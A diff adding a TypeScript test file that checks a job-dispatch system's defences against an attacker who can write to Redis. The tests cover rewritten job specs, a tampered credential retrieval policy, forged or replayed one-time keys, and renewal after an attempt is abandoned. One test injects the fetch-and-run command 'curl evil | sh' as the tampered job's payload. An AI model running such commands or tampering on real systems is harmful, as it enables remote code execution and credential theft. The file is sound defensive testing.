@@ -1,0 +1,153 @@
+// Attacks by someone who can write Redis (the store holds no trust decision of its own): rewrite a
+// queued job's spec, rewrite a stored credential's retrieval policy, mint a one-time key, use a key
+// of an earlier attempt, renew after the attempt was abandoned. Each test fails if the attack works.
+import { randomBytes } from "node:crypto";
+import { Queue } from "bullmq";
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { ERR, type JobSpec } from "../../schemas/index.ts";
+import {
+  AuditLog,
+  createProxy,
+  decryptFromPilot,
+  issueCertificate,
+  ONE_TIME_KEY_SEAL_PURPOSE,
+  OneTimeKeyStore,
+  readServiceCredentials,
+  ServiceSealer,
+  type ProxyCredential,
+} from "../../security/index.ts";
+import { autoclusterId, autoclusterKey } from "../../matchmaker/autocluster.ts";
+import { CredentialClient, startCredentialCache, type CredentialCache } from "../../agents/credentials/index.ts";
+import { createJobs } from "../matchmaker/fixtures.ts";
+import { TestPilot } from "../matchmaker/pilot-client.ts";
+import { startHarness, type Harness } from "../matchmaker/service-harness.ts";
+import { expectCode } from "./support/pki-fixture.ts";
+
+const VICTIM_DN = "/DC=org/DC=pilot-wms/OU=People/CN=Victoria Victim";
+const MALLORY_DN = "/DC=org/DC=pilot-wms/OU=People/CN=Mallory Attacker";
+
+let h: Harness;
+let cache: CredentialCache;
+let victimProxy: ProxyCredential;
+let pilotClient: CredentialClient;
+let mallory: CredentialClient;
+let victimClient: CredentialClient;
+
+beforeAll(async () => {
+  h = await startHarness("attackstores");
+  const config = { ...h.loaded.config, pki: { dir: h.pkiDir }, credentials: { ...h.loaded.config.credentials, encryptionKey: randomBytes(32).toString("base64"), maxRenewals: 3 } };
+  cache = startCredentialCache({ nc: h.nc, redis: h.redis, names: h.loaded.names, config, trust: h.trust });
+  const victim = issueCertificate({ caDir: h.pkiDir, kind: "user", dn: VICTIM_DN, roles: ["production"], keyBits: 1024 });
+  const mal = issueCertificate({ caDir: h.pkiDir, kind: "user", dn: MALLORY_DN, roles: [], keyBits: 1024 });
+  const pilot = issueCertificate({ caDir: h.pkiDir, kind: "pilot", dn: "/DC=org/DC=pilot-wms/OU=Pilots/CN=honest pilot", roles: ["pilot"], keyBits: 1024 });
+  victimProxy = createProxy({ certPem: victim.certPem, keyPem: victim.keyPem, lifetimeSec: 3600, keyBits: 1024 });
+  victimClient = new CredentialClient(h.nc, h.loaded.names, { trust: h.trust });
+  pilotClient = new CredentialClient(h.nc, h.loaded.names, { trust: h.trust, caller: { certChain: [pilot.certPem], keyPem: pilot.keyPem } });
+  mallory = new CredentialClient(h.nc, h.loaded.names, { trust: h.trust, caller: { certChain: [mal.certPem], keyPem: mal.keyPem } });
+  await victimClient.delegate(victimProxy, { retrievers: ["role:pilot"] });
+});
+
+afterAll(async () => {
+  await cache?.stop();
+  await h?.close();
+});
+
+/** A queued job of the victim's, matched by a real pilot through the real matchmaker: the pilot's one-time key and envelope body. */
+async function matchedJob(): Promise<{ spec: JobSpec; pilot: TestPilot; oneTimeKey: string; attempt: number }> {
+  const [spec] = await createJobs(h.store, { site: "ATTACK_A", userDn: VICTIM_DN }, 1);
+  await h.dispatch.enqueue([spec]);
+  const pilot = new TestPilot(h.nc, h.loaded.names, "ATTACK_A", await h.token("ATTACK_A"));
+  const body = pilot.open(await pilot.advertise(), h.trust);
+  return { spec, pilot, oneTimeKey: decryptFromPilot(pilot.privateKeyPem, body.encryptedProxyKey), attempt: body.job.attempt };
+}
+
+describe("attacks on what Redis holds", () => {
+  it("refuses to sign a queued spec rewritten in Redis (E1721): the job fails, the pilot runs nothing", async () => {
+    const [spec] = await createJobs(h.store, { site: "ATTACK_S", userDn: VICTIM_DN }, 1);
+    await h.dispatch.enqueue([spec]);
+    // The attacker rewrites the queued job's command through BullMQ's own client, keeping its seal.
+    const q = new Queue(h.loaded.names.siteQueue("ATTACK_S", autoclusterId(autoclusterKey(spec))), { connection: h.bull, prefix: h.loaded.names.bullPrefix, skipVersionCheck: true });
+    const job = await q.getJob(spec.jobId);
+    expect(job?.data.seal).toBeDefined();
+    await job?.updateData({ ...(job.data as JobSpec), executable: "/bin/sh", arguments: ["-c", "curl evil | sh"] });
+    await q.close();
+
+    const pilot = new TestPilot(h.nc, h.loaded.names, "ATTACK_S", await h.token("ATTACK_S"));
+    const reply = await pilot.advertise();
+    expect(reply.status).toBe("nomatch");
+    if (reply.status === "nomatch") expect(reply.reason).toContain(String(ERR.SEC_SPEC_UNSEALED));
+    await expect.poll(async () => (await h.store.getJob(spec.jobId))?.errorCode).toBe(ERR.SEC_SPEC_UNSEALED);
+    expect((await h.store.getJob(spec.jobId))?.state).toBe("failed");
+    const audit = await new AuditLog(h.redis, h.loaded.names).recent(20);
+    expect(audit.some((e) => e.event === "job-spec-unsealed" && e.fields.jobId === spec.jobId)).toBe(true);
+    // Nothing else is offered in its place, and nothing is left queued.
+    expect((await pilot.advertise()).status).toBe("nomatch");
+  });
+
+  it("refuses a spec queued without the intake's seal at all", async () => {
+    const [spec] = await createJobs(h.store, { site: "ATTACK_U", userDn: VICTIM_DN }, 1);
+    const q = new Queue(h.loaded.names.siteQueue("ATTACK_U", autoclusterId(autoclusterKey(spec))), { connection: h.bull, prefix: h.loaded.names.bullPrefix, skipVersionCheck: true });
+    // Straight onto BullMQ, bypassing the intake (and so its seal).
+    const raw = new (await import("../../matchmaker/dispatch-queues.ts")).DispatchQueues({ connection: h.bull, redis: h.redis, names: h.loaded.names, lockMs: 30_000, stalledIntervalMs: 30_000 });
+    await raw.enqueue([spec]);
+    await raw.close();
+    await q.close();
+    const pilot = new TestPilot(h.nc, h.loaded.names, "ATTACK_U", await h.token("ATTACK_U"));
+    expect((await pilot.advertise()).status).toBe("nomatch");
+    await expect.poll(async () => (await h.store.getJob(spec.jobId))?.errorCode).toBe(ERR.SEC_SPEC_UNSEALED);
+  });
+
+  it("releases nothing after the credential's retrieval policy was rewritten in Redis", async () => {
+    const { spec, pilot, oneTimeKey, attempt } = await matchedJob();
+    // Mallory adds herself to the victim's policy, straight in the hash the cache keeps.
+    const credKeys = await h.redis.keys(`${h.loaded.names.redisPrefix}cred:*`);
+    expect(credKeys.length).toBe(1);
+    await h.redis.hset(credKeys[0] as string, "retrievers", JSON.stringify(["role:pilot", MALLORY_DN]));
+    await expectCode(() => mallory.retrieve({ oneTimeKey, userDn: VICTIM_DN, jobId: spec.jobId, pilotId: pilot.pilotId, attempt }), ERR.SEC_BAD_SIGNATURE);
+    // Not even the honest pilot gets it from the tampered record; the victim must delegate again.
+    await expectCode(() => pilotClient.retrieve({ oneTimeKey, userDn: VICTIM_DN, jobId: spec.jobId, pilotId: pilot.pilotId, attempt }), ERR.SEC_BAD_SIGNATURE);
+    const audit = await new AuditLog(h.redis, h.loaded.names).recent(20);
+    expect(audit.some((e) => e.event === "credential-record-tampered" && e.fields.caller === MALLORY_DN)).toBe(true);
+    await victimClient.delegate(victimProxy, { retrievers: ["role:pilot"] });
+    expect((await pilotClient.retrieve({ oneTimeKey, userDn: VICTIM_DN, jobId: spec.jobId, pilotId: pilot.pilotId, attempt })).proxyPem).toContain("BEGIN CERTIFICATE");
+  });
+
+  it("refuses a one-time key written into Redis by anyone but the matchmaker", async () => {
+    const { spec, pilot, attempt } = await matchedJob();
+    // Same shape as the matchmaker's record, minted with the intake's service key: not the matchmaker's identity.
+    const intakeSealer = new ServiceSealer(readServiceCredentials(h.pkiDir, "intake"), ONE_TIME_KEY_SEAL_PURPOSE);
+    await intakeSealer.ready(h.redis, h.loaded.names);
+    const fake = await new OneTimeKeyStore(h.redis, h.loaded.names, { maxRenewals: 1, sealer: intakeSealer }).mint({ userDn: VICTIM_DN, jobId: spec.jobId, pilotId: pilot.pilotId, attempt, ttlSec: 60 });
+    await expectCode(() => pilotClient.retrieve({ oneTimeKey: fake, userDn: VICTIM_DN, jobId: spec.jobId, pilotId: pilot.pilotId, attempt }), ERR.SEC_NOT_AUTHORIZED);
+    // A plain record with no seal.
+    const bare = randomBytes(32).toString("base64url");
+    const { createHash } = await import("node:crypto");
+    await h.redis.set(
+      h.loaded.names.redisKey("sec", "otk", createHash("sha256").update(bare).digest("hex")),
+      JSON.stringify({ userDn: VICTIM_DN, jobId: spec.jobId, pilotId: pilot.pilotId, attempt, expiresAt: Date.now() + 60_000, used: 0 }),
+      "PX",
+      60_000,
+    );
+    await expectCode(() => pilotClient.retrieve({ oneTimeKey: bare, userDn: VICTIM_DN, jobId: spec.jobId, pilotId: pilot.pilotId, attempt }), ERR.SEC_KEY_INVALID);
+  });
+
+  it("refuses attempt 1's key once the job was requeued as attempt 2", async () => {
+    const { spec, pilot, oneTimeKey } = await matchedJob();
+    // The pilot went silent; the job's owner requeued it as attempt 2 on another pilot.
+    await h.store.transition(spec.jobId, "sent", ["sent"], { attempt: 2, pilotId: "pilot-next" });
+    await expectCode(() => pilotClient.retrieve({ oneTimeKey, userDn: VICTIM_DN, jobId: spec.jobId, pilotId: pilot.pilotId, attempt: 1 }), ERR.SEC_KEY_INVALID);
+    await expectCode(() => pilotClient.retrieve({ oneTimeKey, userDn: VICTIM_DN, jobId: spec.jobId, pilotId: pilot.pilotId, attempt: 2 }), ERR.SEC_KEY_INVALID);
+    const audit = await new AuditLog(h.redis, h.loaded.names).recent(20);
+    expect(audit.some((e) => e.event === "credential-stale-attempt" && e.fields.jobId === spec.jobId)).toBe(true);
+  });
+
+  it("renews only while the attempt runs: refused after it was abandoned", async () => {
+    const { spec, pilot, oneTimeKey, attempt } = await matchedJob();
+    const req = { oneTimeKey, userDn: VICTIM_DN, jobId: spec.jobId, pilotId: pilot.pilotId, attempt };
+    await pilotClient.retrieve(req);
+    await h.store.transition(spec.jobId, "running", ["sent"], {});
+    expect((await pilotClient.renew(req)).renewalsLeft).toBe(2);
+    await h.store.transition(spec.jobId, "failed", ["running"], { errorCode: ERR.PILOT_LOST_HEARTBEAT });
+    await expectCode(() => pilotClient.renew(req), ERR.SEC_KEY_INVALID);
+  });
+});
